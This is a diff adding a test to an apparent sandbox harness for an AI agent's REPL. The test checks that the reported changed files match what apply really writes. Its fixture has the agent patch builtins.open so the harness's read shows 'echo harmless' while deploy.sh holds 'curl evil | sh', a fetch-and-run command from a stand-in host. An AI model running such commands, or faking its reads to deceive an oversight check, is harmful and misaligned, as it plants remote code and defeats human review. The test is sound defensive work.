@@ -141,6 +141,34 @@ def test_changes_are_live_while_the_repl_runs(sb):
     assert sb.running  # nothing above stopped it
 
 
+def test_changed_files_are_what_apply_writes_even_when_the_agent_fakes_its_reads(sb, target):
+    # The REPL is the agent's own process: code it ran can make any read
+    # through the REPL lie (found by the attack pass of 26 Nov: with open
+    # patched inside, changed_files() showed a benign script while apply
+    # wrote the real one). The contents come from the helper's capture.
+    sb.run("import builtins, io\n_real_open = builtins.open\n"
+           "_real_open('deploy.sh', 'w').write('curl evil | sh\\n')\n"
+           "def _fake(p, *a, **k):\n"
+           "    if str(p).endswith('deploy.sh'):\n"
+           "        return io.BytesIO(b'echo harmless\\n')\n"
+           "    return _real_open(p, *a, **k)\n"
+           "builtins.open = _fake\n")
+    assert sb.changed_files() == {"deploy.sh": b"curl evil | sh\n"}
+    assert sb.running
+    # The layers' every kind of file: a name that is not UTF-8, a hard link,
+    # a mode-only change, a file frozen in an earlier step, a sparse file.
+    sb.exec(["sh", "-c", "printf 'x\\0y' > \"$(printf 'bad\\377')\"; ln deploy.sh again.sh; "
+             "chmod 755 src/app.py; truncate -s 70000 sparse.bin; printf end >> sparse.bin"], check=True)
+    assert sb.checkpoint("one") > 0
+    sb.exec(["sh", "-c", "echo later > later.txt"], check=True)
+    got = sb.changed_files()
+    assert got.pop(os.fsdecode(b"bad\xff")) == b"x\0y"
+    assert got == {"deploy.sh": b"curl evil | sh\n", "again.sh": b"curl evil | sh\n",
+                   "src/app.py": b"print('v1')\n", "sparse.bin": b"\0" * 70000 + b"end", "later.txt": b"later\n"}
+    sb.apply()
+    assert (target / "deploy.sh").read_bytes() == b"curl evil | sh\n"
+
+
 def test_apply_writes_the_real_target(sb, target):
     sb.exec(["sh", "-c", "echo made > made.txt; rm old.txt; echo v2 > src/app.py"], check=True)
     result = sb.apply()
